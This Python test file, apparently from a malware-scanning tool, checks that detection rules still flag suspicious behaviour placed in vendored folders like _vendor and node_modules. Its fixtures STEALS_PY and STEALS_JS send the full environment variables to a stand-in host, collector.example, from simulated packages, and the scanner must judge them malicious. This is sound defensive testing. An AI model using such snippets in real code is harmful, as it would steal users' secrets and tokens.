"""Calling a folder `_vendor` excuses nothing: whatever a verdict rests on, it finds in copies of other code too."""

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from biopsy.detect import check, load
from biopsy.detect.expression import Seen
from biopsy.detect.rule import Example, Rule, evaluate
from biopsy.model.behaviour import Behaviour, InFile
from biopsy.model.dossier import Call
from biopsy.pipeline import Options, analyze

RULES = load()
BY_ID = {rule.id: rule for rule in RULES}


def _placed(rule: Rule) -> bool:
    """Whether it is about files of certain paths, which cannot be moved: `package.json`."""
    return any(isinstance(part, Seen) and part.leaf.at for part in rule.when.parts())


HEAVY = [rule for rule in RULES if rule.status == "stable" and (rule.weighs or rule.convicts)]
FOUND = [
    (one.rule, one.example)
    for one in check(RULES)
    if one.example.match
    and one.rule in HEAVY
    and not any(_placed(BY_ID[name]) for name in (one.rule.id, *one.rule.needs))
]
FOLDERS = ["_vendor/", "thing/_vendor/", "vendor/", "node_modules/x/", "third_party/", "lib/site-packages/"]


def _moved(behaviour: Behaviour, folder: str) -> Behaviour:
    where = behaviour.where
    return (
        replace(behaviour, where=replace(where, path=folder + where.path))
        if isinstance(where, InFile)
        else behaviour
    )


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(FOUND), st.sampled_from(FOLDERS))
def test_what_a_verdict_rests_on_is_found_in_vendored_code_too(
    found: tuple[Rule, Example], folder: str
) -> None:
    rule, example = found
    behaviours = tuple(_moved(b, folder) for b in example.behaviours)
    before = example.previous and tuple(_moved(b, folder) for b in example.previous)
    moved = Example(example.name, True, behaviours, before, example.unfinished)
    scene = moved.scene({"install", "start", "import", "scripts", "execute"})
    needed = [BY_ID[name] for name in rule.needs]
    assert rule.id in {one.id for one, _ in evaluate([*needed, rule], scene)}


def test_no_rule_that_weighs_leaves_vendored_code_out() -> None:
    assert [rule.id for rule in HEAVY if rule.looks_away] == []


STEALS_PY = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://collector.example/in', data=repr(dict(os.environ)).encode())\n"
)
STEALS_JS = (
    "const https = require('https');\n"
    "const r = https.request({host: 'collector.example', method: 'POST'});\n"
    "r.write(JSON.stringify(process.env)); r.end();\n"
)
PYTHON = {
    "setup.py": "from setuptools import setup\nsetup(name='sim-thing', version='1.0', packages=['sim_thing'])\n"
}
NODE = {"package.json": '{"name": "sim-thing", "version": "1.0.0", "main": "index.js"}'}


@pytest.mark.parametrize(
    "files",
    [
        PYTHON | {"sim_thing/__init__.py": "from sim_thing._vendor import six\n", "sim_thing/_vendor/__init__.py": "", "sim_thing/_vendor/six.py": STEALS_PY},
        PYTHON | {"sim_thing/__init__.py": "import sim_thing.extern.six\n", "sim_thing/extern/six.py": STEALS_PY},
        NODE | {"index.js": "require('./vendor/six');", "vendor/six.js": STEALS_JS},
        NODE | {"index.js": "require('six');", "node_modules/six/index.js": STEALS_JS},
        NODE | {"index.js": "require('./dist/vendor.3f2a9b1c.js');", "dist/vendor.3f2a9b1c.js": STEALS_JS},
    ],
    ids=["_vendor", "extern", "vendor", "node_modules", "bundle"],
)  # fmt: skip
def test_a_theft_in_a_copied_library_convicts(files: dict[str, str], tmp_path: Path) -> None:
    for name, text in files.items():
        path = tmp_path / "sim" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    options = Options(home=tmp_path / "home", static_only=True)
    (analysis,) = analyze(str(tmp_path / "sim"), options, lambda _text, _done: None)
    assert analysis.verdict.call is Call.MALICIOUS
    places = {b.where for one in analysis.findings if one.convicts for b in one.evidence}
    assert any(isinstance(where, InFile) and where.vendored for where in places)
